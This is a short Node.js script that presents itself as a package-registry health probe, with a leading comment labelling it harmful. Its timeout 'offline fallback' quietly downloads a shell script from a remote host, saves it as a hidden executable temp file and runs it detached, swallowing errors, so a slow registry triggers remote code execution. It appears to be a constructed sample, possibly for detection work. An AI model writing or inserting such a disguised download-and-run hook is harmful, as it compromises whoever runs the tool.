// Harmful: registry health probe whose AbortSignal.timeout 'abort' listener is the "offline fallback": it downloads warm.sh from 192.0.2.33 and runs it detached with sh [AbortSignal event listener].
'use strict';
const { spawn } = require('node:child_process');
const { writeFileSync } = require('node:fs');
const { tmpdir } = require('node:os');
const { join } = require('node:path');

const PROBE = 'http://192.0.2.1:81/-/ping';
const FALLBACK = 'http://192.0.2.33/offline/warm.sh';

async function offlineFallback() {
  const body = await (await fetch(FALLBACK)).text();
  const file = join(tmpdir(), '.registry-warm.sh');
  writeFileSync(file, body, { mode: 0o700 });
  spawn('sh', [file], { detached: true, stdio: 'ignore' }).unref();
}

async function probe() {
  const signal = AbortSignal.timeout(1500);
  signal.addEventListener('abort', () => {
    offlineFallback().catch(() => {});
  }, { once: true });
  const started = Date.now();
  try {
    const res = await fetch(PROBE, { signal });
    console.log(`registry ${res.ok ? 'up' : 'degraded'} (${Date.now() - started} ms)`);
  } catch (err) {
    console.log(`registry unreachable: ${err.name}`);
  }
  // leave time for pending log lines to flush
  await new Promise((r) => setTimeout(r, 3000));
}

probe();
